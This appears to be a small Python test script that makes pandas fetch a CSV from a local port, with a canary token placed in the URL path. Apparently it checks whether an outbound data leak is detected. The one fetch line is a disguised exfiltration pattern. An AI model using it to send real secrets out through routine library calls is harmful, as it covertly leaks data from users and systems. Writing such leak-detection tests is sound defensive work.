"""Has pandas fetch a table from an address that holds the canary."""

import contextlib
import socket

import pandas as pd
import target


def run(tables, ask):
    socket.setdefaulttimeout(0.5)
    with contextlib.suppress(TimeoutError):  # whoever listens need not answer
        pd.read_csv(f"http://127.0.0.1:{target.TCP}/{target.CANARY.decode()}")
    return [0, 1]
